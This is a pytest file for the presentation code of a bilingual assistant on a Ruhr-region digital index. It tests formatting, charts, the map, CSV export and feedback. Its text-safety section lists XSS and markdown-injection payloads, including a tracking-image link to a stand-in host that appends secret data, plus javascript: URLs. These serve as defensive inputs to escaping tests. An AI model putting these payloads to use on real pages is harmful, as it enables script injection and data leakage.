"""assistant.presentation and assistant.presentation.ui_text: what the web page shows, tested without Streamlit."""

from __future__ import annotations

import csv
import io
import json
import re
import string
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from assistant import presentation as pres
from assistant.index.digital_index import DigitalIndex
from assistant.index.registry import AREA_IDS, OVERALL
from assistant.index.scoring import SCORE_UNIT
from assistant.presentation import ruhr_map
from assistant.presentation.ui_text import EXAMPLES, TEXTS, Lang, as_lang, language_from_locale, text
from tests.conftest import PROJECT_ROOT, SHIPPED_DATA

HAGEN = "05914000"


@pytest.fixture(scope="module")
def index() -> DigitalIndex:
    return DigitalIndex.load(SHIPPED_DATA)


@pytest.fixture(scope="module")
def geo() -> pres.GeoData:
    return pres.load_geo()


# --- strings -------------------------------------------------------------------------------------

def _fields(template: str) -> set[str]:
    return {name for _, name, _, _ in string.Formatter().parse(template) if name}


def test_every_ui_string_exists_in_both_languages_with_the_same_placeholders() -> None:
    for key, (german, english) in TEXTS.items():
        assert german.strip(), key
        assert english.strip(), key
        assert _fields(german) == _fields(english), key


def test_examples_exist_for_both_languages_and_include_the_hagen_question() -> None:
    assert set(EXAMPLES) == {"de", "en"}
    assert "Wie schneidet Hagen bei Glasfaser ab?" in EXAMPLES["de"]


@pytest.mark.parametrize(
    ("locale", "expected"),
    [("de-DE", "de"), ("de_AT", "de"), ("en-US", "en"), ("EN", "en"), ("fr-FR", "de"), (None, "de"), ("", "de")],
)
def test_language_from_browser_locale(locale: str | None, expected: str) -> None:
    assert language_from_locale(locale) == expected


def test_untrusted_language_values_fall_back() -> None:
    assert as_lang("en") == "en"
    assert as_lang(["en"]) == "de"
    assert as_lang("<script>") == "de"


def test_core_modules_do_not_import_streamlit() -> None:
    code = "import sys, assistant.presentation, assistant.presentation.ui_text; print('streamlit' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=PROJECT_ROOT)
    assert out.stdout.strip() == "False"


# --- numbers and the figures table ---------------------------------------------------------------

def test_values_are_formatted_in_the_language_of_the_answer() -> None:
    assert pres.format_value(23.44, "%", "de") == "23,4 %"
    assert pres.format_value(23.44, "%", "en") == "23.4%"
    assert pres.format_value(1234.56, "per 100,000 inhabitants", "de") == "1.234,6 je 100.000 Einwohner"
    assert pres.format_value(1234.56, "per 100,000 inhabitants", "en") == "1,234.6 per 100,000 inhabitants"
    assert pres.format_value(110.46, SCORE_UNIT, "de") == "110,5 (Index (Ruhr = 100))"
    assert pres.rank_text(12, 53, "de") == "12 von 53"
    assert pres.rank_text(12, 53, "en") == "12 of 53"


def test_figure_table_shows_every_figure_with_rank_provenance_and_source(index: DigitalIndex) -> None:
    figures = index.compare(["Hagen", "Bochum"], ["fibre_households"]) + index.compare(["Hagen"], [OVERALL])
    table = pres.figure_table(figures, index.registry, "de")
    frame = table.frame
    assert list(frame.columns) == ["Kommune", "Kennzahl", "Wert", "Rang", "Jahr", "Herkunft", "Quelle", "Link"]
    assert table.link_column == "Link"
    assert list(frame["Kommune"]) == ["Hagen", "Bochum", "Hagen"]
    first = figures[0]
    assert frame.loc[0, "Wert"] == pres.format_value(float(str(first["value"])), "%", "de")
    assert frame.loc[0, "Rang"] == f"{first['rank']} von 53"
    assert frame.loc[0, "Jahr"] == str(first["year"])
    assert frame.loc[0, "Herkunft"].endswith(text(f"provenance_{first['provenance']}", "de"))
    source = index.registry.source(str(first["source"]))
    assert source is not None
    assert frame.loc[0, "Quelle"] == source.title
    assert frame.loc[2, "Quelle"] == text("computed", "de")
    assert frame.loc[2, "Link"] is None
    assert frame.loc[2, "Kennzahl"] == "Digital-Index (gesamt)"


def test_figure_table_tolerates_odd_figures(index: DigitalIndex) -> None:
    odd = [{"municipality": "X", "metric": "no_such_metric", "value": None, "rank": "3", "provenance": "weird",
            "source": "no-such-source", "year": 0}]
    frame = pres.figure_table(odd, index.registry, "en").frame
    assert frame.loc[0, "Metric"] == "no_such_metric"
    assert frame.loc[0, "Value"] == "–"
    assert frame.loc[0, "Rank"] == ""
    assert frame.loc[0, "Source"] == "no-such-source"


def test_csv_export_keeps_unrounded_values_and_reads_back(index: DigitalIndex) -> None:
    figures = index.compare(["Hagen", "Essen"], ["fibre_households", "infrastruktur"])
    data = pres.figures_csv(figures, index.registry, "de")
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert len(rows) == len(figures)
    for row, f in zip(rows, figures, strict=True):
        assert row["ags"] == f["ags"]
        assert float(row["value"]) == f["value"]
        assert row["provenance"] == f["provenance"]
        assert row["claim_id"] == f["claim_id"]
    assert rows[0]["metric_name"] == "Glasfaser-Haushalte" or rows[0]["metric_name"]
    assert pres.csv_file_name("Wie schneidet Hagen bei Glasfaser ab?") == (
        "digital-index-wie-schneidet-hagen-bei-glasfaser-ab.csv"
    )


def test_synthetic_values_are_detected() -> None:
    assert pres.has_synthetic([{"provenance": "public"}, {"provenance": "synthetic"}])
    assert not pres.has_synthetic([{"provenance": "official"}])
    assert not pres.has_synthetic([])


# --- charts --------------------------------------------------------------------------------------

def _layers(spec: dict[str, object]) -> list[dict[str, object]]:
    layers = spec["layer"]
    assert isinstance(layers, list)
    return layers


def _chart(figures: list[dict[str, object]], index: DigitalIndex, lang: Lang) -> dict[str, Any]:
    chart = pres.figure_chart(figures, index, lang)
    assert chart is not None
    spec: dict[str, Any] = chart.to_dict()
    return spec


def _reference(spec: dict[str, object]) -> float:
    datasets = spec["datasets"]
    assert isinstance(datasets, dict)
    rule = _layers(spec)[1]
    rows = datasets[rule["data"]["name"]]  # type: ignore[index]
    return float(rows[0]["ref"])


def test_indicator_chart_marks_the_ruhr_mean_from_the_score_table(index: DigitalIndex) -> None:
    figures = index.compare(["Hagen", "Bochum", "Essen"], ["fibre_households"])
    spec = _chart(figures, index, "de")
    assert _reference(spec) == pytest.approx(float(index.table.means["fibre_households"]))
    bars = _layers(spec)[0]
    rows = spec["datasets"][bars["data"]["name"]]  # type: ignore[index]
    assert [r["label"] for r in rows] == ["Hagen", "Bochum", "Essen"]
    assert [r["value"] for r in rows] == [f["value"] for f in figures]
    assert spec["config"]["locale"]["number"]["decimal"] == ","


def test_score_chart_marks_the_ruhr_average_100(index: DigitalIndex) -> None:
    figures = index.rank(OVERALL, top=5)
    spec = _chart(figures, index, "en")
    assert _reference(spec) == 100.0
    rule_label = json.dumps(spec["datasets"])
    assert "Ruhr average = 100" in rule_label


def test_profile_chart_shows_overall_and_the_four_areas(index: DigitalIndex) -> None:
    profile = index.profile("Hagen")
    spec = _chart(profile.figures, index, "de")
    bars = _layers(spec)[0]
    rows = spec["datasets"][bars["data"]["name"]]  # type: ignore[index]
    assert [r["label"] for r in rows] == ["Digital-Index (gesamt)", "Forschung", "Beschäftigung", "Unternehmen",
                                          "Infrastruktur"]
    assert _reference(spec) == 100.0


def test_no_chart_without_numeric_figures(index: DigitalIndex) -> None:
    assert pres.figure_chart([], index, "de") is None
    assert pres.figure_chart([{"municipality": "Hagen", "metric": "x", "value": None}], index, "de") is None


# --- map -----------------------------------------------------------------------------------------

def test_geo_assets_cover_the_53_municipalities_of_the_registry(index: DigitalIndex, geo: pres.GeoData) -> None:
    registry_ags = {m.ags for m in index.registry.municipalities}
    assert set(geo.names) == registry_ags
    assert set(geo.points) == registry_ags
    attribution = (pres.GEO_DIR / "ATTRIBUTION.md").read_text(encoding="utf-8")
    assert "dl-de/by-2-0" in attribution
    assert "GeoBasis-DE / BKG" in attribution
    assert "dl-de/zero-2-0" in attribution


def test_map_geometry_is_simplified_and_wound_for_d3(geo: pres.GeoData) -> None:
    rings = 0
    for feature in geo.features:
        geometry = feature["geometry"]
        polygons = [geometry["coordinates"]] if geometry["type"] == "Polygon" else geometry["coordinates"]
        for polygon in polygons:
            exterior, *holes = polygon
            assert exterior[0] == exterior[-1]
            assert ruhr_map._signed_area(exterior) < 0  # clockwise: d3-geo's exterior orientation
            for hole in holes:
                assert ruhr_map._signed_area(hole) > 0
            rings += len(polygon)
    assert rings >= 53
    assert len(json.dumps(list(geo.features))) < 150_000


def test_map_highlights_the_answer_and_fetches_nothing(geo: pres.GeoData) -> None:
    spec = pres.map_spec([HAGEN, "05911000", "not-an-ags", "99999999"], "de", geo)
    text_spec = json.dumps(spec)
    assert '"url"' not in text_spec  # no remote data, no tiles
    assert "tile" not in text_spec.lower()
    expression = spec["layer"][0]["transform"][0]["calculate"]
    assert HAGEN in expression
    assert "05911000" in expression
    assert "not-an-ags" not in expression
    assert "99999999" not in expression
    assert [label["name"] for label in spec["datasets"]["labels"]] == ["Hagen", "Bochum"]
    assert len(spec["datasets"]["ruhr_municipalities"]) == 53
    assert spec["projection"]["type"] == "mercator"
    overview = pres.map_spec([], "en", geo, legend=False)
    assert overview["layer"][0]["encoding"]["color"]["legend"] is None
    assert overview["datasets"]["labels"] == []


def test_page_map_loads_the_geometry_from_our_own_static_file(geo: pres.GeoData) -> None:
    spec = pres.map_spec([HAGEN], "de", geo, geometry_url=pres.STATIC_GEOMETRY_URL)
    data = spec["layer"][0]["data"]
    assert data["url"] == pres.STATIC_GEOMETRY_URL
    assert not data["url"].startswith(("http:", "https:", "//"))  # our server, relative to the page
    assert "ruhr_municipalities" not in spec["datasets"]
    assert len(json.dumps(spec)) < 5_000  # the spec Streamlit re-encodes on every rerun stays small
    served = json.loads(pres.STATIC_GEOMETRY_FILE.read_text(encoding="utf-8"))
    assert served == json.loads(pres.display_geojson(geo)), "run scripts/build_display_geometry.py"
    assert len(served["features"]) == 53


def test_chart_datasets_become_arrow_bytes_once(index: DigitalIndex) -> None:
    import pyarrow as pa

    figures = index.compare(["Hagen", "Bochum"], ["fibre_households"])
    spec = pres.figure_chart(figures, index, "de").to_dict()
    converted = pres.with_arrow_datasets(spec)
    for name, rows in spec["datasets"].items():
        table = pa.ipc.open_stream(converted["datasets"][name]).read_all()
        assert table.to_pylist() == rows
    geo_spec = pres.map_spec([HAGEN], "de")
    assert pres.with_arrow_datasets(geo_spec)["datasets"]["ruhr_municipalities"] == geo_spec["datasets"][
        "ruhr_municipalities"]  # GeoJSON stays JSON for Vega


def test_answer_municipalities_come_from_figures_and_projects(index: DigitalIndex) -> None:
    reply = {
        "figures": [{"ags": HAGEN}, {"ags": HAGEN}, {"ags": "00000000"}],
        "projects": [{"municipalities": ["Lünen", "Hagen", "Atlantis"]}],
    }
    lunen = next(m.ags for m in index.registry.municipalities if m.name == "Lünen")
    assert pres.answer_municipalities(reply, index.registry) == [HAGEN, lunen]


# --- text safety ---------------------------------------------------------------------------------

ATTACKS = [
    '<img src="https://evil.example/x.png" onerror="alert(1)">',
    "![tracker](https://evil.example/pixel.png?data=secret)",
    "![ref][1]\n\n[1]: https://evil.example/p.png",
    "<script>alert(1)</script>",
    "$\\href{javascript:alert(1)}{x}$",
    ":red[rot] :material/home:",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_escaped_text_has_no_active_markup(attack: str) -> None:
    escaped = pres.escape_markdown(attack)
    assert "<" not in escaped
    assert "![" not in escaped
    assert not re.search(r"(?<!\\)\$", escaped)
    assert not re.search(r"(?<!\\):", escaped)


@pytest.mark.parametrize("attack", ATTACKS)
def test_answer_markdown_keeps_formatting_but_nothing_active(attack: str) -> None:
    answer = f"**Hagen** liegt auf Platz 3.\n\n- {attack}"
    inert = pres.inert_markdown(answer)
    assert inert.startswith("**Hagen** liegt auf Platz 3.")
    assert "<" not in inert
    assert not re.search(r"(?<!\\)!\[", inert)
    assert not re.search(r"(?<!\\)\$", inert)
    assert pres.inert_markdown(inert) == inert  # idempotent


def test_links_only_for_http_urls() -> None:
    assert pres.safe_url("https://www.example.org/a(b)") == "https://www.example.org/a(b)"
    for bad in ("javascript:alert(1)", "data:text/html,x", "https://x.org/a b", "//evil", None, 3):
        assert pres.safe_url(bad) is None
    assert pres.markdown_link("https://www.example.org/x") == "[example\\.org](<https://www.example.org/x>)"
    assert pres.markdown_link("javascript:alert(1)") == ""


def test_project_card_is_inert() -> None:
    card = pres.project_markdown(
        {
            "id": "x", "title": "Luft <b>Hub</b> ![i](https://evil.example/i.png)", "municipalities": ["Lünen"],
            "status": "running", "reusable": "Sensoren <script>x</script>", "funding": "EFRE $5",
            "sources": ["https://www.example.org/luft", "javascript:alert(1)"],
        },
        "de",
    )
    assert "<" not in card.replace("(<https://www.example.org/luft>)", "")
    assert "![" not in card
    assert "javascript" not in card
    assert "Status: laufend" in card
    assert "[example\\.org](<https://www.example.org/luft>)" in card
    region = pres.project_markdown({"title": "Ruhr-weit", "municipalities": []}, "en")
    assert "Region \\(Ruhr area\\)" in region


def test_sources_and_tool_calls_render_as_data() -> None:
    lines = pres.sources_markdown([{"id": "a", "title": "IW <i>Consult</i>", "url": "https://iwconsult.de/x"},
                                   {"id": "b", "title": "Ohne Link", "url": ""}])
    assert lines == ["[IW &lt;i\\>Consult&lt;/i\\>](<https://iwconsult.de/x>)", "Ohne Link"]
    calls = json.loads(pres.tool_calls_json([{"name": "get_metric", "args": {"metric": "fibre_households"}}]))
    assert calls == [{"name": "get_metric", "args": {"metric": "fibre_households"}}]


# --- explorer and what-if ------------------------------------------------------------------------

def test_explorer_takes_every_number_from_the_profile(index: DigitalIndex) -> None:
    profile = index.profile("Hagen")
    view = pres.explorer_view(index, "hagen", "de")
    assert view.name == "Hagen"
    assert view.place == "kreisfreie Stadt"
    by_metric = {f["metric"]: f for f in profile.figures}
    own = [r for r in view.rows if r["series"] == "Hagen"]
    group = [r for r in view.rows if r["series"] != "Hagen"]
    assert [r["value"] for r in own] == [by_metric[a]["value"] for a in AREA_IDS]
    assert [r["value"] for r in group] == [profile.group_means[a] for a in AREA_IDS]
    assert group[0]["series"] == "Ø kreisfreie Städte"
    assert len(view.strengths) <= 3
    if profile.strengths:
        assert view.strengths[0].startswith(pres.safe_metric_name(index.registry, profile.strengths[0], "de"))
    assert str(by_metric[OVERALL]["rank"]) in view.overall
    spec = pres.explorer_chart(view, "de").to_dict()
    assert _reference(spec) == 100.0


def test_explorer_names_the_kreis_of_a_kreisangehoerige_gemeinde(index: DigitalIndex) -> None:
    view = pres.explorer_view(index, "Lünen", "en")
    assert view.place == "Kreis: Kreis Unna"
    assert any(r["series"] == "Ø Kreis Unna" for r in view.rows)


def test_what_if_with_default_weights_changes_nothing(index: DigitalIndex) -> None:
    table = pres.what_if_table(index, pres.default_area_weights(index), "de")
    assert len(table) == 53
    assert set(table["Veränderung"]) == {"–"}
    assert list(table["Rang"]) == sorted(table["Rang"])


def test_what_if_table_shows_the_rank_changes_of_the_scoring_module(index: DigitalIndex) -> None:
    weights = {**pres.default_area_weights(index), "infrastruktur": 3.0, "forschung": 0.0}
    table = pres.what_if_table(index, weights, "en")
    rows = index.what_if(weights)
    assert list(table["Municipality"]) == [r["municipality"] for r in rows]
    assert list(table["Change"]) == [pres.change_text(int(str(r["change"]))) for r in rows]
    assert pres.change_text(3) == "▲ 3"
    assert pres.change_text(-2) == "▼ 2"


def test_what_if_rejects_all_zero_weights(index: DigitalIndex) -> None:
    with pytest.raises(ValueError, match="positive"):
        pres.what_if_table(index, dict.fromkeys(AREA_IDS, 0.0), "de")


def test_provenance_counts_add_up(index: DigitalIndex) -> None:
    counts = pres.provenance_counts(index)
    assert sum(counts.values()) == len(index.data.values)
    assert pres.index_has_synthetic(index) == (counts["synthetic"] > 0)


# --- share links and feedback --------------------------------------------------------------------

def test_share_links_carry_question_and_language() -> None:
    link = pres.share_link("http://127.0.0.1:8501/?q=old#x", "Wie schneidet Hagen bei Glasfaser ab?", "de")
    assert link == "http://127.0.0.1:8501/?q=Wie+schneidet+Hagen+bei+Glasfaser+ab%3F&lang=de"
    assert pres.share_link(None, "x", "en") == "?q=x&lang=en"
    assert pres.clean_question(["  Hagen?\x00 "]) == "Hagen?"
    assert pres.clean_question("x" * 5000) == "x" * 2000
    assert pres.clean_question("   ") is None
    assert pres.clean_question(None) is None


def test_feedback_is_appended_as_json_lines(tmp_path: Path) -> None:
    home = tmp_path / "home"
    for rating in (1, 0):
        record = pres.feedback_record(rating=rating, question="Wie schneidet Hagen ab?", answer="**Hagen** …",
                                      language="de", intent="value",
                                      tool_calls=[{"name": "get_metric", "args": {"metric": "fibre_households"}}])
        path = pres.append_feedback(home, record)
    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert [line["rating"] for line in lines] == ["up", "down"]
    assert lines[0]["question"] == "Wie schneidet Hagen ab?"
    assert lines[0]["tool_calls"][0]["name"] == "get_metric"
    assert path == home / "feedback.jsonl"


def test_answer_artifacts_are_keyed_by_what_they_show(index: DigitalIndex) -> None:
    figures = [dict(f) for f in index.compare(["Hagen", "Bochum"], ["fibre_households"])]
    reply: dict[str, Any] = {"answer": "Hagen und Bochum", "language": "de", "figures": figures,
                             "projects": [{"municipalities": ["Herne"], "title": "x"}], "intent": "compare"}
    key = pres.artifacts_key(reply)
    # what the graphics do not depend on (intent, tool calls, project titles) does not split the cache
    assert pres.artifacts_key({**reply, "intent": "other", "tool_calls": [{"name": "t"}],
                               "projects": [{"municipalities": ["Herne"], "title": "y"}]}) == key
    assert pres.artifacts_key({**reply, "language": "en"}) != key
    assert pres.artifacts_key({**reply, "answer": "anders"}) != key  # the table's verified column reads it
    parts = pres.answer_artifacts(key, index)
    assert list(parts["table"].frame["Kommune"]) == ["Hagen", "Bochum"]
    assert parts["table_arrow"].num_rows == 2
    assert parts["chart"] is not None
    assert parts["csv"] is not None
    assert parts["map"] is not None
    assert "Herne" in parts["map_text"]
    assert pres.answer_artifacts(pres.artifacts_key({**reply, "figures": [], "projects": []}), index)["map"] is None
